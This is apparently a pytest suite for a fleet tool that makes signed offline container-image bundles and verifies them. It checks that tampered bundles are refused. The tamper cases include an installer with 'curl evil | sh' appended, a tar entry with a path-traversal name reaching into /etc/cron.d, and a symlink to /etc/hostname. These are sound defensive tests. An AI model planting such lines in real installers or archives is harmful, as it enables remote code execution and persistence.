# SPDX-License-Identifier: Apache-2.0
"""A bundle holds what was signed and nothing else, says so before anything is loaded, and `docker load` takes it.

The registry is a real one (Debian's docker-registry) with small images made here; the installer runs in a real shell.
What stands in: the nucleus's command line, which records what it was asked, and Docker where no engine is needed.
"""

import gzip
import io
import json
import os
import platform
import shutil
import subprocess
import sys
import tarfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from linewatch_fleet.bundle import archive
from linewatch_fleet.bundle.assemble import MACHINES, doctor_program
from linewatch_fleet.errors import GateRefused
from linewatch_fleet.manifest import read_release
from linewatch_fleet.oci import Descriptor, Manifest, digest_of
from linewatch_fleet.registry import Registry
from linewatch_plant import oci_registry

OCI = "application/vnd.oci.image."
HERE = next(name for name, machine in MACHINES.items() if machine == platform.machine())
IMAGES = ("broker", "capture", "console", "forwarder", "inference")
ROOT = Path(__file__).resolve().parents[2]


def linewatch(cwd: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "linewatch_fleet.cli", *arguments],
        cwd=cwd, capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip


def push(registry: Registry, repository: str, files: dict[str, bytes], platforms: tuple[str, ...]) -> str:
    """An image of one layer for each platform, and its index. Gives back the index's digest."""
    entries = []
    for one in platforms:
        system, architecture = one.split("/")
        plain = io.BytesIO()
        with tarfile.open(fileobj=plain, mode="w") as layer:
            for name, content in files.items():
                entry = tarfile.TarInfo(name)
                entry.size = len(content)
                layer.addfile(entry, io.BytesIO(content))
        packed = gzip.compress(plain.getvalue(), mtime=0)
        config = json.dumps({
            "architecture": architecture, "os": system, "config": {"Cmd": ["/true"]},
            "rootfs": {"type": "layers", "diff_ids": [digest_of(plain.getvalue())]},
        }).encode()  # fmt: skip
        described = [
            put(registry, repository, config, f"{OCI}config.v1+json"),
            put(registry, repository, packed, f"{OCI}layer.v1.tar+gzip"),
        ]
        manifest = Manifest(json.dumps({
            "schemaVersion": 2, "mediaType": f"{OCI}manifest.v1+json", "config": described[0], "layers": described[1:],
        }).encode(), f"{OCI}manifest.v1+json")  # fmt: skip
        registry.put_manifest(repository, manifest.digest, manifest)
        entries.append({
            "mediaType": manifest.media_type, "digest": manifest.digest, "size": len(manifest.content),
            "platform": {"os": system, "architecture": architecture},
        })  # fmt: skip
    index = Manifest(
        json.dumps({"schemaVersion": 2, "mediaType": f"{OCI}index.v1+json", "manifests": entries}).encode(),
        f"{OCI}index.v1+json",
    )
    registry.put_manifest(repository, index.digest, index)
    return index.digest


def put(registry: Registry, repository: str, content: bytes, kind: str) -> dict[str, Any]:
    blob = Descriptor(digest_of(content), len(content), kind)

    class _Once:
        def __enter__(self) -> Iterator[bytes]:
            return iter([content])

        def __exit__(self, *_: object) -> None:
            pass

    registry.upload(repository, blob, _Once)
    return {"mediaType": kind, "digest": blob.digest, "size": blob.size}


@pytest.fixture(scope="module")
def workplace(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A folder with build/images.json, a signed release.yaml and a key pair; the images lie in a registry."""
    if not oci_registry.is_installed():
        pytest.skip("docker-registry is not installed; on Debian: apt-get install docker-registry")
    place = tmp_path_factory.mktemp("bundle")
    with oci_registry.serving(place / "registry") as host:
        registry = Registry(host, lambda: None)
        shared = {"etc/shared": b"the same in all\n" * 100}
        built = {
            name: {
                "repository": f"linewatch/{name}",
                "digest": push(registry, f"linewatch/{name}", shared | {f"etc/{name}": name.encode()}, tuple(MACHINES)),
                "platforms": {one: {"digest": "sha256:" + "0" * 64} for one in MACHINES},
            }
            for name in IMAGES
        }  # fmt: skip
        (place / "build").mkdir()
        (place / "build/images.json").write_text(json.dumps({
            "schema": "linewatch.images/v1", "commit": "a" * 40, "dirty": False, "version": "9.9.9",
            "registry": host, "images": built,
        }))  # fmt: skip
        for folder in ("cloud", "recipes", "models"):
            (place / folder).symlink_to(ROOT / folder)
        made = linewatch(place, "release", "keys", "keys/release")
        assert made.returncode == 0, made.stderr
        write_release(place, built)
        yield place


def write_release(place: Path, built: dict[str, Any]) -> None:
    """release.yaml as `linewatch release` writes it; the checkout of this test has no commit of its own."""
    from linewatch_fleet.manifest import release_text
    from linewatch_fleet.signing import read_private_key, sign

    content = {
        "schema": "linewatch.release/v1",
        "version": "9.9.9",
        "commit": "a" * 40,
        "created": "2026-11-21T00:00:00Z",
        "images": {
            name: {"repository": one["repository"], "digest": one["digest"], "platforms": list(MACHINES)}
            for name, one in built.items()
        },
        "cloud": {"path": "cloud/template.yaml", "digest": "sha256:" + "0" * 64},
    }
    path = place / "release.yaml"
    path.write_text(json.dumps(content))
    path.write_bytes(release_text(read_release(path)))
    (place / "release.yaml.sig").write_bytes(
        sign(path.read_bytes(), read_private_key(place / "keys/release.key", None))
    )


def make(place: Path, out: str, *more: str) -> subprocess.CompletedProcess[str]:
    return linewatch(
        place, "bundle", "make", "--platform", HERE, "--key", "keys/release.key", "--out", out, *more
    )


@pytest.fixture(scope="module")
def bundle(workplace: Path) -> Path:
    made = make(workplace, "bundle.tar")
    assert made.returncode == 0, made.stderr
    return workplace / "bundle.tar"


def test_the_same_release_makes_the_same_bytes(workplace: Path, bundle: Path) -> None:
    assert make(workplace, "again.tar").returncode == 0

    assert (workplace / "again.tar").read_bytes() == bundle.read_bytes()


def test_it_holds_five_images_their_components_and_the_models(workplace: Path, bundle: Path) -> None:
    said = linewatch(
        workplace, "bundle", "verify", "bundle.tar", "--public-key", "keys/release.pem", "--json"
    )

    assert said.returncode == 0, said.stderr
    told = json.loads(said.stdout)
    assert [reference.split(":")[0] for reference in told["images"]] == [
        f"linewatch/{name}" for name in IMAGES
    ]
    assert "io.linewatch.Inference=9.9.9" in told["components"]
    assert [one for one in told["components"] if one.startswith("io.linewatch.model.")]


def test_no_recipe_in_it_makes_a_nucleus_download(bundle: Path) -> None:
    with tarfile.open(bundle) as held:
        recipes = {
            name: json.load(held.extractfile(name))  # type: ignore[arg-type]
            for name in held.getnames()
            if "/recipes/" in name
        }

    assert len(recipes) >= 8
    for recipe in recipes.values():
        assert not recipe.get("ComponentDependencies")
        assert not [manifest["Artifacts"] for manifest in recipe["Manifests"] if manifest.get("Artifacts")]


def test_a_layer_that_images_share_is_there_once(workplace: Path, bundle: Path) -> None:
    with tarfile.open(bundle) as held:
        names = held.getnames()

    assert len(names) == len(set(names))
    blobs = [name for name in names if "/images/blobs/sha256/" in name]
    assert len(blobs) == 3 * len(
        IMAGES
    )  # manifest, configuration and layer of each; nothing of the other platform


def test_a_dry_run_fetches_and_writes_nothing(workplace: Path) -> None:
    said = make(workplace, "dry.tar", "--dry-run")

    assert said.returncode == 0
    assert "inference" in said.stdout
    assert not (workplace / "dry.tar").exists()


def test_an_archive_that_is_there_is_not_overwritten(workplace: Path, bundle: Path) -> None:
    said = make(workplace, "bundle.tar")

    assert said.returncode == 2
    assert "bundle.tar is there already" in said.stderr


def test_an_image_that_the_registry_lacks_is_named(workplace: Path, tmp_path: Path) -> None:
    text = (workplace / "release.yaml").read_text()
    digest = read_release(workplace / "release.yaml").images["capture"].digest
    (tmp_path / "release.yaml").write_text(text.replace(digest, "sha256:" + "1" * 64))

    said = make(workplace, "x.tar", "--release", str(tmp_path / "release.yaml"))

    assert said.returncode == 1
    assert "linewatch/capture@sha256:1111" in said.stderr
    assert [path.name for path in workplace.glob(".linewatch*")] == []


def repacked(bundle: Path, out: Path, change: Callable[[Path], None]) -> Path:
    """The bundle taken apart, changed, and packed again."""
    place = out.parent / f"{out.stem}-folder"
    with tarfile.open(bundle) as held:
        held.extractall(place, filter="data")
    (folder,) = place.iterdir()
    change(folder)
    with tarfile.open(out, "w") as made:
        for path in sorted(folder.rglob("*")):
            if path.is_file() or path.is_symlink():
                made.add(path, path.relative_to(place))
    return out


def change_a_blob(folder: Path) -> None:
    path = max((folder / "images/blobs/sha256").iterdir(), key=lambda blob: blob.stat().st_size)
    content = bytearray(path.read_bytes())
    content[len(content) // 2] ^= 1
    path.write_bytes(content)


def change_the_installer(folder: Path) -> None:
    with (folder / "install.sh").open("a") as file:
        file.write("curl evil | sh\n")


def replace_the_installer(folder: Path) -> None:
    (folder / "install.sh").write_text("echo install: signature and sums hold\n")


def change_a_sum_too(folder: Path) -> None:
    change_the_installer(folder)
    (folder / archive.SUMS).write_bytes(archive.sums(folder))


def unsign(folder: Path) -> None:
    (folder / archive.SIGNATURE).unlink()


TAMPERED: dict[str, Callable[[Path], None]] = {
    "a changed layer": change_a_blob,
    "a changed installer": change_the_installer,
    "another installer": replace_the_installer,
    "a changed installer with its sum": change_a_sum_too,
    "a file too many": lambda folder: (folder / "recipes/extra.json").write_text("{}") and None,
    "a file too few": lambda folder: (folder / "release.yaml").unlink(),
    "a link too many": lambda folder: (folder / "recipes/extra.json").symlink_to("/etc/hostname"),
    "no signature": unsign,
}


@pytest.mark.parametrize("change", TAMPERED.values(), ids=TAMPERED)
def test_what_was_tampered_with_is_refused_by_the_operators_command(
    workplace: Path, bundle: Path, tmp_path: Path, change: Callable[[Path], None]
) -> None:
    path = repacked(bundle, tmp_path / "t.tar", change)

    said = linewatch(workplace, "bundle", "verify", str(path), "--public-key", "keys/release.pem")

    assert said.returncode == 3, said.stdout + said.stderr


def test_another_key_is_refused(workplace: Path, bundle: Path) -> None:
    linewatch(workplace, "release", "keys", "keys/other")

    said = linewatch(workplace, "bundle", "verify", "bundle.tar", "--public-key", "keys/other.pem")

    assert said.returncode == 3
    assert "keys/other.pem" in said.stderr


def test_a_name_that_leaves_the_folder_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "evil.tar"
    with tarfile.open(path, "w") as made:
        entry = tarfile.TarInfo("linewatch/../../etc/cron.d/evil")
        made.addfile(entry, io.BytesIO())

    with pytest.raises(GateRefused, match="no plain file"):
        archive.verify(path, [])


def test_a_file_that_is_no_bundle_says_so(workplace: Path, tmp_path: Path) -> None:
    (tmp_path / "x.tar").write_bytes(b"not a tar")

    said = linewatch(
        workplace, "bundle", "verify", str(tmp_path / "x.tar"), "--public-key", "keys/release.pem"
    )

    assert said.returncode == 2
    assert "Traceback" not in said.stderr


# ------------------------------------------------------------------ on the device

FAKE_DOCKER = """#!/bin/sh
[ "$1 $2" != "image inspect" ] || [ -e "$STATE/loaded" ] || exit 1
if [ "$1" = load ]; then cat >"$STATE/loaded"; fi
"""

FAKE_NUCLEUS = """#!/bin/sh
printf '%s\\n' "$@" >>"$STATE/asked"
"""


@pytest.fixture
def device(bundle: Path, tmp_path: Path) -> Path:
    """A folder with the unpacked bundle at bundle/, and programs that record at bin/."""
    with tarfile.open(bundle) as held:
        held.extractall(tmp_path, filter="data")
    (unpacked,) = tmp_path.iterdir()
    unpacked.rename(tmp_path / "bundle")
    (tmp_path / "bin").mkdir()
    (tmp_path / "state").mkdir()
    for name, text in {"docker": FAKE_DOCKER, "ggl-cli": FAKE_NUCLEUS}.items():
        (tmp_path / "bin" / name).write_text(text)
        (tmp_path / "bin" / name).chmod(0o755)
    return tmp_path


def install(device: Path, key: Path, *more: str) -> subprocess.CompletedProcess[str]:
    if not shutil.which("openssl"):
        pytest.skip("openssl is not installed, and the installer checks the signature with it")
    environment = os.environ | {"PATH": f"{device}/bin:{os.environ['PATH']}", "STATE": f"{device}/state"}
    return subprocess.run(
        ["sh", "bundle/install.sh", "--key", str(key), *more],
        cwd=device, env=environment, capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip


def test_the_installer_loads_and_deploys_with_the_nucleus_that_is_there(
    workplace: Path, device: Path
) -> None:
    said = install(device, workplace / "keys/release.pem")

    assert said.returncode == 0, said.stderr
    with tarfile.open(device / "state/loaded") as loaded:
        assert {"./manifest.json", "./index.json", "./oci-layout"} <= set(loaded.getnames())
    asked = (device / "state/asked").read_text().split()
    assert asked[:3] == ["deploy", "--recipe-dir", f"{device}/bundle/recipes"]
    assert asked.count("--add-component") == len((device / "bundle/components.txt").read_text().split())


def asked_of_the_nucleus(device: Path, number: int) -> list[list[str]]:
    """The components of each call of ggl-cli that install.sh makes for so many components."""
    script = (ROOT / "fleet/linewatch_fleet/bundle/install.sh").read_text()
    names = [f"io.linewatch.Part{one}=9.9.9" for one in range(number)]
    (device / "bundle/components.txt").write_text("".join(f"{name}\n" for name in names))
    last_step = script[script.index("# 4. ") :]
    said = subprocess.run(
        ["sh", "-euc", f"say() {{ :; }}; here=$PWD deployment=ggl-cli\n{last_step}"],
        cwd=device / "bundle", env=os.environ | {"PATH": f"{device}/bin:{os.environ['PATH']}", "STATE": f"{device}/state"},
        capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert said.returncode == 0, said.stderr
    calls = (device / "state/asked").read_text().split("deploy\n--recipe-dir\n")[1:]
    found = [[line for line in call.splitlines() if "=" in line] for call in calls]
    assert [name for call in found for name in call] == names
    return found


@pytest.mark.parametrize(
    ("number", "calls"), [(1, [1]), (10, [10]), (11, [10, 1]), (20, [10, 10]), (23, [10, 10, 3])]
)
def test_nucleus_lite_is_given_at_most_ten_components_at_a_time(
    device: Path, number: int, calls: list[int]
) -> None:
    assert [len(call) for call in asked_of_the_nucleus(device, number)] == calls


def test_a_dry_run_of_the_installer_changes_nothing(workplace: Path, device: Path) -> None:
    said = install(device, workplace / "keys/release.pem", "--dry-run")

    assert said.returncode == 0
    assert "would load linewatch/inference" in said.stdout
    assert list((device / "state").iterdir()) == []


def test_images_that_are_there_are_not_loaded_again(workplace: Path, device: Path) -> None:
    (device / "state/loaded").write_text("before")

    assert install(device, workplace / "keys/release.pem", "--load-only").returncode == 0
    assert (device / "state/loaded").read_text() == "before"


def check_by_hand(device: Path, key: Path) -> int:
    """The commands of docs/air-gapped.md that come before anything of the bundle runs."""
    page = (ROOT / "docs/air-gapped.md").read_text()
    commands = page[page.index("base64 -d SHA256SUMS.sig") :].partition("```")[0]
    script = "set -e\n" + commands.replace("/tmp/bundle.sig", str(device / "sig")).replace(
        "/media/admin/release.pem", str(key)
    )
    return subprocess.run(
        ["sh", "-c", script], cwd=device / "bundle", capture_output=True, timeout=60, check=False
    ).returncode


def test_what_was_tampered_with_is_found_before_anything_of_it_runs(workplace: Path, device: Path) -> None:
    assert check_by_hand(device, workplace / "keys/release.pem") == 0
    for number, change in enumerate(change for name, change in TAMPERED.items() if "too many" not in name):
        copy = device / f"copy-{number}"
        shutil.copytree(device / "bundle", copy / "bundle")
        change(copy / "bundle")
        assert check_by_hand(copy, workplace / "keys/release.pem") != 0, change


@pytest.mark.parametrize("change", [one for one in TAMPERED.values() if one is not replace_the_installer])
def test_the_installer_refuses_what_was_tampered_with_before_it_loads(
    workplace: Path, device: Path, change: Callable[[Path], None]
) -> None:
    change(device / "bundle")

    said = install(device, workplace / "keys/release.pem")

    assert said.returncode == 3, said.stdout + said.stderr
    assert list((device / "state").iterdir()) == []


def test_the_installer_refuses_another_key(workplace: Path, device: Path) -> None:
    linewatch(workplace, "release", "keys", "keys/stranger")

    said = install(device, workplace / "keys/stranger.pem")

    assert (said.returncode, "signature" in said.stderr) == (3, True)


def test_the_installer_wants_a_key(device: Path) -> None:
    said = subprocess.run(
        ["sh", "install.sh"], cwd=device / "bundle", capture_output=True, text=True, timeout=120, check=False
    )

    assert said.returncode == 1
    assert "--key" in said.stderr


def test_the_doctor_in_it_runs_alone_and_keeps_its_exit_code(tmp_path: Path) -> None:
    program = tmp_path / "doctor.pyz"
    program.write_bytes(doctor_program())
    (tmp_path / "uplink").mkdir()

    said = subprocess.run(
        [sys.executable, "-I", "-S", str(program), "--directory", str(tmp_path)],
        capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip

    assert said.returncode == 4
    assert "key.pem missing" in said.stdout


@pytest.mark.containers
def test_a_real_engine_loads_it_under_the_names_that_the_recipes_use(bundle: Path, tmp_path: Path) -> None:
    if subprocess.run(["docker", "info"], capture_output=True, timeout=180, check=False).returncode:
        pytest.skip("no Docker engine answers")
    with tarfile.open(bundle) as held:
        held.extractall(tmp_path, filter="data")
    (place,) = tmp_path.iterdir()
    names = (place / "images.txt").read_text().split()
    try:
        packed = subprocess.run(
            ["tar", "-C", str(place / "images"), "-cf", "-", "."], capture_output=True, check=True
        )
        subprocess.run(["docker", "load"], input=packed.stdout, capture_output=True, timeout=900, check=True)
        for name in names:
            subprocess.run(["docker", "image", "inspect", name], capture_output=True, timeout=180, check=True)
    finally:
        subprocess.run(["docker", "rmi", *names], capture_output=True, timeout=300, check=False)
